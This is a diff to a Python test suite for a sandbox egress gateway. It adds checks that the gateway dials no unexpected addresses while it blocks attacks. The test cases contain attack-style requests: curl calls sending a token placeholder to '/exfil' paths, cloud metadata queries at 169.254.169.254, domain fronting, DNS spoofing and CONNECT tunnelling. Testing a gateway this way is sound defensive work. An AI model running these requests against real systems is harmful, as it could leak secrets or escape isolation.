@@ -197,6 +197,12 @@ def echo_json(body):
         return {}
 
 
+def silent(body):
+    """curl's output shows no fixture answered (echo JSON or catch-all banner)."""
+    return echo_json(body).get("role") is None and "catchall" not in body and \
+        "HTTP/0.9" not in body
+
+
 def reached(res, role):
     """Did any response of an egress_guest req come from the fixture role?"""
     for r in res.get("responses", []):
@@ -208,11 +214,14 @@ def reached(res, role):
 # --- shared assertions -------------------------------------------------------
 
 def blocked(env, name, guest_ok, guest_detail, mark, amark, nothing=(), audit=None,
-            audit_any=None, audit_l3=False):
+            audit_any=None, audit_l3=False, dial_ok=()):
     """The three assertions of an attack.
 
     nothing: (role, {field: value}) pairs that must have no log record since
-    mark. audit: fields a deny record must contain. audit_any: a needle any
+    mark; and no TCP connection from the gateway host may have been opened
+    to any address but those in dial_ok (None: not checked; the gateway
+    dialling the real allowed host instead of the guest's choice is fine
+    for some attacks). audit: fields a deny record must contain. audit_any: a needle any
     of sni/host/qname/dst/ip/path of a deny record must contain. audit_l3:
     the island drops it; the gateway never sees it (no audit expected)."""
     check("%s [guest]" % name, guest_ok, guest_detail)
@@ -222,8 +231,15 @@ def blocked(env, name, guest_ok, guest_detail, mark, amark, nothing=(), audit=No
         recs = env.logs.since(mark, role, **match)
         if recs:
             leaks.append({"role": role, "first": recs[0]})
-    check("%s [upstream]" % name, not leaks,
-          leaks if leaks else "no record in %s" % ", ".join(sorted({r for r, _ in nothing})))
+    if dial_ok is not None:
+        syns = [p for p in env.logs.since(mark, "packets", proto="tcp")
+                if p.get("dst") not in dial_ok]
+        if syns:
+            leaks.append({"dialled": [(p["dst"], p["dport"]) for p in syns][:5]})
+    what = "no record in %s" % (", ".join(sorted({r for r, _ in nothing})) or "-")
+    if dial_ok is not None:
+        what += "; nothing dialled" + (" but %s" % ",".join(dial_ok) if dial_ok else "")
+    check("%s [upstream]" % name, not leaks, leaks if leaks else what)
     if audit_l3:
         return
     if audit is not None or audit_any is not None:
@@ -443,20 +459,21 @@ def cat_credentials(env):
                               "https://%s/exfil-cdn" % N("cdn-a"))
     blocked(env, "secret: placeholder to an allowed host it is not bound to is refused",
             echo_json(body).get("role") != "cdn", "%s %s" % (code, body[:200]), m, am,
-            nothing=[("cdn", {"path": "/exfil-cdn"})], audit={"host": N("cdn-a")})
+            nothing=[("cdn", {"path": "/exfil-cdn"})], audit={"host": N("cdn-a")},
+            dial_ok=[A["cdn"]])
     m, am = marks(env)
     rc, code, body = env.curl(sb, "-H", "X-Exfil: airlock:TEST_TOKEN",
                               "https://%s/exfil-header" % N("allowed"))
     blocked(env, "secret: placeholder in a header it is not bound to is refused",
             echo_json(body).get("path") != "/exfil-header", "%s %s" % (code, body[:200]), m, am,
-            nothing=[("allowed", {"path": "/exfil-header"})], audit={"host": N("allowed"),
-                                                                    "path": "/exfil-header"})
+            nothing=[("allowed", {"path": "/exfil-header"})],
+            audit={"host": N("allowed"), "path": "/exfil-header"}, dial_ok=[A["allowed"]])
     m, am = marks(env)
     rc, code, body = env.curl(sb, "-H", "Authorization: Bearer airlock:TEST_TOKEN", "--resolve",
                               "%s:443:%s" % (N("forbidden"), A["allowed"]),
                               "https://%s/exfil-forbidden" % N("forbidden"))
     blocked(env, "secret: placeholder to a forbidden host is refused",
-            echo_json(body).get("role") is None, "%s %s" % (code, body[:200]), m, am,
+            silent(body), "%s %s" % (code, body[:200]), m, am,
             nothing=[("forbidden", {}), ("allowed", {"path": "/exfil-forbidden"})],
             audit={"decision": "deny"}, audit_any=N("forbidden"))
     m, am = marks(env)
@@ -490,7 +507,7 @@ def cat_spoof_dns(env):
         e = echo_json(body)
         blocked(env, name, e.get("role") != "forbidden",
                 "guest got %s from role %s" % (code, e.get("role")), m, am,
-                nothing=[("forbidden", {}), ("packets", {"dst": A["forbidden"]})])
+                nothing=[("forbidden", {})], dial_ok=[A["allowed"]])
         # Dialling the name (reaching the real allowed host) or refusing
         # are both correct; dialling the guest's address is not.
         recs = [r for r in env.audit.find(am, path=path)]
@@ -510,7 +527,7 @@ def cat_spoof_dns(env):
         r = env.guest(sb, "req", ip, 443, "--tls", "--sni", N("allowed"),
                       "--req", "GET %s /atk-forged-sni" % N("allowed"))
         blocked(env, "raw IP %s with a forged SNI never reaches that IP" % ip,
-                not reached(r, role), r, m, am, nothing=[(role, {})])
+                not reached(r, role), r, m, am, nothing=[(role, {})], dial_ok=[A["allowed"]])
         recs = env.audit.find(am, path="/atk-forged-sni") or env.audit.find(
             am, timeout=0.5, dst=ip)
         check("raw IP %s with a forged SNI [audit]" % ip,
@@ -537,14 +554,15 @@ def cat_cdn_fronting(env):
     r = env.guest(sb, "req", A["cdn"], 443, "--tls", "--sni", N("cdn-a"),
                   "--req", "GET %s /atk-front" % N("cdn-b"))
     blocked(env, "domain fronting: SNI cdn-a, Host cdn-b", not reached(r, "cdn"), r, m, am,
-            nothing=[("cdn", {"host": N("cdn-b")})], audit={"host": N("cdn-b")})
+            nothing=[("cdn", {"host": N("cdn-b")})], audit={"host": N("cdn-b")},
+            dial_ok=[A["cdn"]])
     m, am = marks(env)
     r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--sni", N("allowed"),
                   "--req", "GET %s /atk-front2" % N("forbidden"))
     blocked(env, "domain fronting: SNI allowed, Host forbidden",
             not reached(r, "allowed") and not reached(r, "forbidden"), r, m, am,
             nothing=[("forbidden", {}), ("allowed", {"path": "/atk-front2"})],
-            audit={"host": N("forbidden")})
+            audit={"host": N("forbidden")}, dial_ok=[A["allowed"]])
 
 
 def cat_keepalive(env):
@@ -560,7 +578,7 @@ def cat_keepalive(env):
     blocked(env, "keep-alive: a second request on the connection to a forbidden host",
             second.get("json", {}).get("role") is None, second, m, am,
             nothing=[("forbidden", {}), ("allowed", {"path": "/ka-2"})],
-            audit={"host": N("forbidden")})
+            audit={"host": N("forbidden")}, dial_ok=[A["allowed"]])
     m, am = marks(env)
     r = env.guest(sb, "req", N("allowed"), 443, "--tls", "--sni", N("allowed"),
                   "--req", "GET %s /ka-3" % N("allowed"), "--req", "GET %s /ka-4" % N("cdn-a"))
@@ -568,7 +586,8 @@ def cat_keepalive(env):
     second = resps[1] if len(resps) > 1 else {"error": "no second response"}
     blocked(env, "keep-alive: a second request to another ALLOWED host (Host != SNI)",
             second.get("json", {}).get("role") is None, second, m, am,
-            nothing=[("cdn", {}), ("allowed", {"path": "/ka-4"})], audit={"host": N("cdn-a")})
+            nothing=[("cdn", {}), ("allowed", {"path": "/ka-4"})], audit={"host": N("cdn-a")},
+            dial_ok=[A["allowed"]])
 
 
 def cat_connect(env):
@@ -582,7 +601,7 @@ def cat_connect(env):
         blocked(env, "CONNECT tunnel through an allowed open proxy (:%d)" % port,
                 resp.get("status") != 200, r, m, am,
                 nothing=[("proxy", {"event": "connect"}), ("forbidden", {})],
-                audit={"method": "CONNECT"})
+                audit={"method": "CONNECT"}, dial_ok=[A["proxy"]])
     m, am = marks(env)
     r = env.guest(sb, "tcp", A["proxy"], 3128, "--send", "CONNECT %s HTTP/1.1\r\n" % target)
     blocked(env, "CONNECT to the proxy's own port 3128 (no rule)",
@@ -658,7 +677,7 @@ def cat_ports(env):
     m, am = marks(env)
     rc, code, body = env.curl(sb, "https://%s:8443/atk-8443" % N("allowed"))
     blocked(env, "non-standard port 8443 on an allowed name (no port rule)",
-            echo_json(body).get("role") is None, "%s %s" % (code, body[:200]), m, am,
+            silent(body), "%s %s" % (code, body[:200]), m, am,
             nothing=[("allowed", {"dst": "%s:8443" % A["allowed"]})],
             audit={"dst": ":8443"})
     m, am = marks(env)
@@ -692,12 +711,12 @@ def cat_ipv6(env):
     rc, code, body = env.curl(sb, "-6", "https://[%s]/atk-v6" % A["v6"], timeout=5)
     rc2, code2, body2 = env.curl(sb, "-6", "http://%s/atk-v6name" % N("v6"), timeout=5)
     blocked(env, "IPv6 to a v6 address and to an allowed v6-only name",
-            echo_json(body).get("role") is None and echo_json(body2).get("role") is None,
+            silent(body) and silent(body2),
             "%s %s / %s %s" % (code, body[:100], code2, body2[:100]), m, am,
             nothing=[("v6", {}), ("packets", {"foreign": True})], audit_l3=True)
     m, am = marks(env)
     rc, code, body = env.curl(sb, "-6", "http://[%s]/latest" % A["metadata6"], timeout=5)
-    blocked(env, "IPv6 cloud metadata fd00:ec2::254", echo_json(body).get("role") is None,
+    blocked(env, "IPv6 cloud metadata fd00:ec2::254", silent(body),
             "%s %s" % (code, body[:100]), m, am,
             nothing=[("metadata6", {}), ("packets", {"foreign": True})], audit_l3=True)
 
@@ -774,7 +793,8 @@ def cat_rebinding(env):
                 nothing=[("private", {}), ("metadata", {}), ("host", {}),
                          ("allowed", {"host": N(n)}) if n != "flip" else ("private", {})],
                 audit={"decision": "deny"} if n != "flip" else None,
-                audit_any=N(n) if n != "flip" else None)
+                audit_any=N(n) if n != "flip" else None,
+                dial_ok=[A["allowed"]] if n == "flip" else ())
         if n == "flip":
             time.sleep(1.1)
 
@@ -783,14 +803,14 @@ def cat_metadata(env):
     sb = env.sb1
     m, am = marks(env)
     rc, code, body = env.curl(sb, "http://%s/latest/meta-data/" % A["metadata"])
-    blocked(env, "cloud metadata 169.254.169.254 by address", echo_json(body).get("role") is None,
+    blocked(env, "cloud metadata 169.254.169.254 by address", silent(body),
             "%s %s" % (code, body[:160]), m, am, nothing=[("metadata", {})],
             audit={"dst": A["metadata"]})
     m, am = marks(env)
     rc, code, body = env.curl(sb, "--resolve", "%s:80:%s" % (N("metadata"), A["allowed"]),
                               "http://%s/latest/meta-data/" % N("metadata"))
     blocked(env, "cloud metadata through an allowed name that resolves to it",
-            echo_json(body).get("role") is None, "%s %s" % (code, body[:160]), m, am,
+            silent(body), "%s %s" % (code, body[:160]), m, am,
             nothing=[("metadata", {}), ("allowed", {"host": N("metadata")})],
             audit_any=N("metadata"))
 
@@ -814,7 +834,7 @@ def cat_host(env):
     for what, fn, needle in cases:
         m, am = marks(env)
         rc, code, body = fn()
-        blocked(env, "reaching the host: %s" % what, echo_json(body).get("role") is None,
+        blocked(env, "reaching the host: %s" % what, silent(body),
                 "%s %s" % (code, body[:160]), m, am,
                 nothing=[("host", {}), ("private", {}), ("catchall", {"dst": tn.UP_ADDR})],
                 audit={"decision": "deny"}, audit_any=needle)
@@ -844,9 +864,10 @@ def cat_sandboxes(env):
     except OSError:
         seen = ""
     check("other sandboxes [guest]: the allowed name resolving to a guest address fails",
-          "neighbour-listener" not in r.get("data", ""), r)
-    check("other sandboxes [upstream]: the second stand-in's listener saw nothing",
-          seen == "", seen[:300])
+          not r.get("data"), r)
+    syns = env.logs.since(m, "packets", proto="tcp")
+    check("other sandboxes [upstream]: the second stand-in's listener saw nothing, "
+          "nothing dialled", seen == "" and not syns, seen[:300] or syns[:3])
     recs = env.audit.find(am, decision="deny", dst="%s:8000" % A["allowed"])
     check("other sandboxes [audit]", bool(recs), recs[:1] or env.audit.since(am)[-3:])
     # The same guest address used directly only ever reaches the guest itself.
@@ -864,7 +885,7 @@ def cat_sandboxes(env):
     rc, code, body = env.curl(sb1, "--resolve", "%s:443:%s" % (N("unlisted"), A["unlisted"]),
                               "https://%s/atk-other-policy" % N("unlisted"))
     blocked(env, "other sandboxes: sandbox 1 cannot use sandbox 2's full-mode policy",
-            echo_json(body).get("role") is None, "%s %s" % (code, body[:160]), m, am,
+            silent(body), "%s %s" % (code, body[:160]), m, am,
             nothing=[("unlisted", {})], audit={"sandbox": sb1.name, "decision": "deny"},
             audit_any=N("unlisted"))
     for what, args in (("169.254.169.254", ["http://%s/latest/" % A["metadata"]]),
@@ -874,7 +895,7 @@ def cat_sandboxes(env):
                        ("RFC 1918 192.168.1.1", ["http://192.168.1.1/"])):
         m, am = marks(env)
         rc, code, body = env.curl(sb2, *args)
-        blocked(env, "full mode still denies %s" % what, echo_json(body).get("role") is None,
+        blocked(env, "full mode still denies %s" % what, silent(body),
                 "%s %s" % (code, body[:160]), m, am,
                 nothing=[("metadata", {}), ("host", {}), ("private", {})])
 
@@ -960,7 +981,7 @@ def cat_sni(env):
     rc, code, body = env.curl(sb, "--resolve", "%s:80:%s" % (N("forbidden"), A["forbidden"]),
                               "http://%s/atk-http80b" % N("forbidden"))
     blocked(env, "plain HTTP to a forbidden host by its own address",
-            echo_json(body).get("role") is None, "%s %s" % (code, body[:160]), m, am,
+            silent(body), "%s %s" % (code, body[:160]), m, am,
             nothing=[("forbidden", {})], audit={"host": N("forbidden")})
 
 
@@ -991,7 +1012,7 @@ def cat_detach(env):
     r = env.sb1.detach(env.ctl)
     check("gateway: detach", r.returncode == 0, r.stdout.strip())
     rc, code, body = env.curl(env.sb1, "https://%s/after-detach" % N("allowed"), timeout=5)
-    check("after detach the guest reaches nothing", echo_json(body).get("role") is None,
+    check("after detach the guest reaches nothing", silent(body),
           "%s %s" % (code, body[:100]))
 
 
